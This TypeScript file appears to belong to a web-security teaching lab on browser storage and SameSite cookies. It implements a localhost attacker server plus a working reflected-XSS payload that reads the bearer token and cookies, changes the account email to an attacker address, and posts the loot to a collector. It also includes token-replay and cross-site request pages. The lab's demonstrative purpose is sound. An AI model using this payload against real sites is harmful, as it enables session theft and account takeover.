/**
 * The storage lab's attacker: a server on another site (`127.0.0.1`, where the apps
 * are on `localhost`; a different port alone would not make a different site, RFC
 * 6265bis §5.2), which
 *
 * - collects what an injected script sends it (`POST /collect`);
 * - shows the loot, and replays a stolen bearer token from the server, outside any
 *   browser (`/`, `POST /replay`);
 * - serves a page that sends cross-site requests to app B (`/cross-site`), to watch
 *   which of them carry the SameSite=Strict cookie.
 *
 * The script it injects is `injectedScript()` below: one script for every copy of the
 * app. It reads whatever a page script can read, uses the session to change the
 * account's email address, and sends everything home.
 */

import type { IncomingMessage, Server, ServerResponse } from 'node:http'
import { createLabServer, escapeHtml, listen, readBody, sendHtml } from './http.ts'

/** What the injected script sent, as the attacker's server received it. */
export interface Loot {
  /** The `Origin` header of the request that brought it: the page the script ran on. */
  readonly origin: string | undefined
  /** The body as sent. */
  readonly body: string
  /** The body parsed, when it is a JSON object. */
  readonly data: Record<string, unknown> | undefined
}

/** The address the injected script changes the victim's email to. */
export const ATTACKER_EMAIL = 'attacker@evil.example'

/** Where the attacker's pages point at: the apps, by role. */
export interface Targets {
  /** The app that takes a bearer token: replays go there. */
  readonly bearerApp: () => string
  /** The app with the SameSite=Strict cookie: cross-site requests go there. */
  readonly cookieApp: () => string
}

/**
 * The payload of the reflected XSS, as an attacker would put it into a link. It marks
 * the page first (so that a person sees that it ran, and a test can see that it did
 * not), then takes what it can and acts as the user.
 */
// #region injected-script
export function injectedScript(collectUrl: string): string {
  return `<script>
document.body.prepend(Object.assign(document.createElement('p'), { id: 'injected', textContent: 'An injected script is running on this page.' }));
(async () => {
  const token = localStorage.getItem('token');
  const headers = token === null ? {} : { authorization: 'Bearer ' + token };
  const action = await fetch('/api/email', { method: 'POST', headers, body: JSON.stringify({ email: '${ATTACKER_EMAIL}' }) });
  const loot = { page: location.origin, localStorage: token, cookie: document.cookie, action: { status: action.status, body: await action.text() } };
  await fetch('${collectUrl}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
})();
</script>`
}
// #endregion injected-script

/** The link a victim is lured into opening: the app's search page with the payload as the query. */
export function attackLink(appOrigin: string, collectUrl: string): string {
  return `${appOrigin}/search?q=${encodeURIComponent(injectedScript(collectUrl))}`
}

export class Attacker {
  readonly #server: Server
  readonly #targets: Targets
  readonly #loot: Loot[] = []
  readonly #waiting: { count: number; resolve: () => void }[] = []
  #port = 0

  constructor(targets: Targets) {
    this.#targets = targets
    // Also reachable as localhost:<port>, the same site as the apps: the lab shows
    // that the SameSite cookie then goes along.
    this.#server = createLabServer(
      () => [`127.0.0.1:${this.#port}`, `localhost:${this.#port}`],
      (request, response) => this.#handle(request, response),
    )
  }

  async start(): Promise<void> {
    this.#port = await listen(this.#server, 0)
  }

  get server(): Server {
    return this.#server
  }

  /** `http://127.0.0.1:<port>`: a different site from `localhost`. */
  get origin(): string {
    return `http://127.0.0.1:${this.#port}`
  }

  /** The same server under the apps' site name: cross-origin, but same-site. */
  get sameSiteOrigin(): string {
    return `http://localhost:${this.#port}`
  }

  get collectUrl(): string {
    return `${this.origin}/collect`
  }

  /** Everything collected so far, oldest first. */
  loot(): readonly Loot[] {
    return [...this.#loot]
  }

  /** Resolves once at least `count` pieces of loot have arrived. */
  waitForLoot(count: number): Promise<readonly Loot[]> {
    if (this.#loot.length >= count) return Promise.resolve(this.loot())
    return new Promise((resolve) => {
      this.#waiting.push({ count, resolve: () => resolve(this.loot()) })
    })
  }

  async #handle(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? '/', this.origin)
    const route = `${request.method} ${url.pathname}`
    if (route === 'POST /collect') return this.#collect(request, response)
    if (route === 'GET /') return sendHtml(response, 200, this.#dashboard())
    if (route === 'POST /replay') return this.#replay(request, response)
    if (route === 'GET /cross-site')
      return sendHtml(response, 200, crossSitePage(this.#targets.cookieApp()))
    sendHtml(response, 404, '<p>not found</p>')
  }

  async #collect(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const body = await readBody(request)
    let data: Record<string, unknown> | undefined
    try {
      const value: unknown = JSON.parse(body)
      if (typeof value === 'object' && value !== null) data = value as Record<string, unknown>
    } catch {
      data = undefined
    }
    const origin = request.headers.origin
    this.#loot.push({ origin: typeof origin === 'string' ? origin : undefined, body, data })
    response.writeHead(204).end()
    for (const waiter of this.#waiting.filter((w) => this.#loot.length >= w.count)) {
      this.#waiting.splice(this.#waiting.indexOf(waiter), 1)
      waiter.resolve()
    }
  }

  /** Sends a stolen bearer token to the app from here, a server no browser is involved in. */
  async #replay(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const index = Number(new URLSearchParams(await readBody(request)).get('loot'))
    const token = this.#loot[index]?.data?.localStorage
    if (typeof token !== 'string') {
      sendHtml(response, 400, '<p>That loot holds no bearer token.</p>')
      return
    }
    const answer = await fetch(`${this.#targets.bearerApp()}/api/me`, {
      headers: { authorization: `Bearer ${token}` },
    })
    const text = await answer.text()
    sendHtml(
      response,
      200,
      page(
        'Replayed',
        `<p>GET ${escapeHtml(this.#targets.bearerApp())}/api/me with the stolen token, from the attacker's server:</p>
<p id="replay-status">${answer.status}</p><pre id="replay-body">${escapeHtml(text)}</pre>
<p><a href="/">Back</a></p>`,
      ),
    )
  }

  #dashboard(): string {
    const items = this.#loot.map((loot, index) => {
      const replay =
        typeof loot.data?.localStorage === 'string'
          ? `<form method="post" action="/replay"><input type="hidden" name="loot" value="${index}"><button type="submit">Replay the token from this server</button></form>`
          : ''
      const shown = JSON.stringify(loot.data ?? loot.body, null, 2)
      return `<li><p>from ${escapeHtml(loot.origin ?? '(no Origin)')}</p><pre>${escapeHtml(shown)}</pre>${replay}</li>`
    })
    const links = [
      ['app A', this.#targets.bearerApp()],
      ['app B', this.#targets.cookieApp()],
    ]
      .map(
        ([name, origin]) =>
          `<li><a href="${escapeHtml(attackLink(origin as string, this.collectUrl))}">the link for ${name}</a></li>`,
      )
      .join('\n')
    return page(
      'The attacker',
      `<p>This server is on <code>127.0.0.1</code>, a different site from the apps on <code>localhost</code>.</p>
<h2>Links to lure a signed-in victim into opening</h2>
<ul>${links}</ul>
<p><a href="/cross-site">A cross-site page</a> that sends requests to app B.</p>
<h2>Collected (${this.#loot.length})</h2>
<ol id="loot">${items.join('\n')}</ol>`,
    )
  }
}

function page(title: string, body: string): string {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>${escapeHtml(title)}</title>
<link rel="stylesheet" href="data:text/css,body%7Bfont-family:system-ui,sans-serif;margin:2rem;max-width:60rem;background:%23fff4f4%7Dpre%7Bwhite-space:pre-wrap;word-break:break-all%7D"></head>
<body class="attacker">
<h1>${escapeHtml(title)}</h1>
${body}
</body>
</html>
`
}

/**
 * Requests to app B from another site: a no-cors POST that would change the email
 * address, a GET of the account, and a link to follow. Neither response can be read
 * here; what counts is whether the browser attached the cookie, which app B's request
 * log shows. The link tells Strict from Lax: a Lax cookie goes along on a top-level
 * GET navigation from another site, a Strict one does not (RFC 6265bis, the SameSite
 * attribute's enforcement rules).
 */
function crossSitePage(target: string): string {
  return page(
    'A page on another site',
    `<p id="status">Sending requests to ${escapeHtml(target)}…</p>
<p><a id="visit" href="${escapeHtml(target)}/">Visit app B</a></p>
<script>
(async () => {
  const target = ${JSON.stringify(target)};
  await fetch(target + '/api/email', { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ email: 'cross-site@evil.example' }) });
  await fetch(target + '/api/me', { mode: 'no-cors', credentials: 'include' });
  document.getElementById('status').textContent = 'Sent two requests to ' + target + '.';
  document.body.dataset.done = 'yes';
})();
</script>`,
  )
}
